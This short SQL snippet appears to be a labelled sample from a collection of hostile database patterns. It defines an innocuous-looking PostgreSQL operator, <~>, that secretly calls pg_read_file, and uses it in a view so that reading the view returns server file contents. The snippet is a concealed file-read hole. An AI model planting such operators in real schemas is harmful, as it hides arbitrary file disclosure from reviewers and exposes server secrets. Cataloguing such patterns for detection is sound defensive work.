-- class: operator-cast-aggregate
-- Defines an innocuous-looking operator implemented by pg_read_file and uses it in a view the application reads.
CREATE OPERATOR public.<~> (
  LEFTARG = text,
  RIGHTARG = boolean,
  FUNCTION = "pg_catalog"."pg_read_file"
);

CREATE VIEW report_template_bodies AS
SELECT id, name, path <~> true AS body FROM report_templates;
